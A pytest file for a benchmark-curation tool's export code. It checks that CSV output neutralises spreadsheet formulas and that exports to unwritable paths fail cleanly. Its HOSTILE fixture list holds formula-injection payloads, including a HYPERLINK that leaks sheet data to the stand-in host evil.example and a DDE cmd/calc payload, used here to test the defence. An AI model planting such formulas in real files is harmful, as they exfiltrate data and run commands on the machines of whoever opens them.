"""What the exports write and where (issues 44 and 45): every CSV the project writes goes through
one writer that neutralises cells a spreadsheet would run as a formula (OWASP's rule: text starting
with = + - @, a tab or a carriage return gets a leading '), numbers staying numbers; an export to a
place it cannot write (under /proc, below a file, at a dangling symbolic link) is one line; `curate
export review` takes its format from --out's suffix."""
from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import pytest

from conftest import ROOT, built_once, copy_ws, one_line_error, run_cli, seed_random_scores

#: Model names and item texts a spreadsheet would run (DDE, a hyperlink that leaks the sheet).
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd", "-2+3+cmd",
           "=1+1"]
RISKY = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


@pytest.fixture(scope="module")
def hostile_built(tmp_path_factory):
    """Eight items whose questions and options hold formulas, with two models' random scores
    (full and zero modes) and answers of three models named as formulas."""
    def build(folder):
        folder.mkdir(parents=True)
        rows = [{"id": f"q{i}", "question": HOSTILE[i % len(HOSTILE)] + f" question {i}",
                 "choices": ["=1+1", "-0.5", "@x", f"+plain {i}"], "answer": i % 4} for i in range(8)]
        data = folder / "items.jsonl"
        data.write_text("".join(json.dumps(r) + "\n" for r in rows))
        ws = folder / "ws"
        run_cli("init", ws, "--benchmark", "generic", "--data", data, "--split", "test",
                "--columns", "{question: question, choices: choices, answer: answer, ids: [id]}")
        seed_random_scores(ws, models=(HOSTILE[0], "m/plain"), modes=("full", "zero"))
        table = folder / "answers.csv"
        with table.open("w", newline="") as fh:
            out = csv.writer(fh)
            out.writerow(["model", "item", "choice"])
            out.writerows([m, i, "ABCD"[(i + k) % 4]] for k, m in enumerate(HOSTILE[1:4]) for i in range(8))
        run_cli("import-answers", ws, "--format", "table", table)
    return built_once(tmp_path_factory, "exports-hostile", build) / "ws"


@pytest.fixture
def hostile_ws(hostile_built, tmp_path):
    return copy_ws(hostile_built, tmp_path / "ws")


def cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def unsafe(path: Path) -> list[str]:
    return [c for c in cells(path) if c.lstrip(" ").startswith(RISKY) and not NUMBER.fullmatch(c)]


def test_every_csv_the_exports_and_the_report_write_is_safe_in_a_spreadsheet(hostile_ws, tmp_path):
    out = tmp_path / "out"
    for kind in ("scores", "item-stats"):
        run_cli("export", hostile_ws, kind, "--out", out / f"{kind}.csv")
    run_cli("items", hostile_ws, "--out", out / "items.csv")
    rules = tmp_path / "rules.yaml"
    rules.write_text("name: r\nstages:\n  - name: first-two\n    when: {ids: {row_index: [0, 1]}}\n")
    run_cli("filter", hostile_ws, "--rules", rules, "--out", out / "decisions")
    run_cli("analyze", hostile_ws, "--out", out / "report")
    written = sorted(out.rglob("*.csv"))
    names = {p.name for p in written}
    assert {"scores.csv", "item-stats.csv", "items.csv", "stages.csv", "item_stats.csv", "core_items.csv"} <= names, names
    for path in written:
        assert unsafe(path) == [], (path, unsafe(path)[:5])
    scores = cells(out / "scores.csv")
    assert "'" + HOSTILE[0] in scores  # the model's name, neutralised
    assert any(NUMBER.fullmatch(c) and c.startswith("-") for c in scores)  # negative numbers stay numbers
    stats = (out / "item-stats.csv").read_text(encoding="utf-8")
    assert all(name in stats for name in HOSTILE[1:4])  # named inside the models cell, which starts with one


def test_the_one_csv_writer_neutralises_text_and_keeps_numbers(tmp_path):
    from curate.core.exports import spreadsheet_safe, write_records

    records = [{"text": t, "number": n, "nested": {"k": t}} for t, n in
               [("=1+1", -0.5), ("+x", 2), ("-2+3", -1), ("@A1", 0.25), ("\tTab", 1e-9), ("\rCR", -3),
                ("-0.5", 4), (" =1+1", 5), ("plain", None), ("-", 6)]]
    path = write_records(records, tmp_path / "t.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["text"] for r in rows] == ["'=1+1", "'+x", "'-2+3", "'@A1", "'\tTab", "'\rCR", "-0.5", "' =1+1",
                                         "plain", "'-"]
    assert [float(r["number"]) for r in rows if r["number"]] == [-0.5, 2, -1, 0.25, 1e-9, -3, 4, 5, 6]
    assert rows[0]["nested"] == json.dumps({"k": "=1+1"})  # JSON text starts with {, which runs nothing
    assert unsafe(path) == []
    # jsonl and parquet keep the text as it is: only a spreadsheet runs formulas
    assert [r["text"] for r in map(json.loads, write_records(records, tmp_path / "t.jsonl").read_text().splitlines())] \
        == [r["text"] for r in records]
    assert spreadsheet_safe(-0.5) == -0.5 and spreadsheet_safe("=x") == "'=x" and spreadsheet_safe("1e5") == "1e5"
    headers = write_records([{"=cmd": 1}], tmp_path / "h.csv")
    assert headers.read_text().splitlines()[0] == "'=cmd"


def test_no_csv_is_written_outside_the_one_writer():
    """Every CSV the project writes goes through curate/core/exports.py (to_csv, csv.writer and
    DictWriter appear nowhere else in its code)."""
    found = []
    for folder in ("curate", "scoring", "annotate", "generate", "schemas"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "curate" / "core" / "exports.py":
                continue
            text = path.read_text(encoding="utf-8")
            found += [f"{path.relative_to(ROOT)}: {m}" for m in re.findall(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(",
                                                                             text)]
    assert found == []


# --- where an export writes ----------------------------------------------------------------------

def places(tmp_path) -> dict[str, Path]:
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    dangling = tmp_path / "dangling"
    dangling.symlink_to(tmp_path / "nowhere" / "target")
    return {"proc": Path("/proc/benchcurate-export"), "below-a-file": blocker / "sub", "dangling": dangling}


@pytest.mark.parametrize("where", ["proc", "below-a-file", "dangling"])
@pytest.mark.parametrize("kind, suffix", [("lm-eval-tasks", ""), ("scores", ".csv"), ("review", ".jsonl"),
                                          ("review", "")])
def test_an_export_to_a_place_it_cannot_write_is_one_line(hostile_ws, tmp_path, where, kind, suffix):
    out = places(tmp_path)[where]
    if suffix and where == "dangling":
        out = out.with_name(out.name + suffix)
        out.symlink_to(tmp_path / "nowhere" / ("target" + suffix))
    elif suffix:
        out = out.with_name(out.name + suffix)
    extra = ["--format", "argilla"] if kind == "review" and not suffix else []
    proc = run_cli("export", hostile_ws, kind, "--out", out, *extra, check=False)
    one_line_error(proc, str(out), "cannot be written")
    assert not (tmp_path / "nowhere").exists()


def test_export_review_takes_its_format_from_the_suffix(hostile_ws, tmp_path):
    out = tmp_path / "queue.jsonl"
    proc = run_cli("export", hostile_ws, "review", "--out", out)
    assert f"for jsonl to {out}" in proc.stdout, proc.stdout
    assert len(out.read_text().splitlines()) == 8
    folder = tmp_path / "argilla"
    assert f"for argilla to {folder}" in run_cli("export", hostile_ws, "review", "--out", folder).stdout
    assert sorted(p.name for p in folder.iterdir()) == ["records.json", "settings.json"]
    one_line_error(run_cli("export", hostile_ws, "review", "--out", tmp_path / "q.csv", check=False),
                   "q.csv", "review writes .jsonl (jsonl) or a folder (argilla)")
    one_line_error(run_cli("export", hostile_ws, "review", "--out", tmp_path / "x.jsonl", "--format", "argilla",
                           check=False), "--format argilla writes a folder")
    one_line_error(run_cli("export", hostile_ws, "review", check=False), "give --out", "or --format")
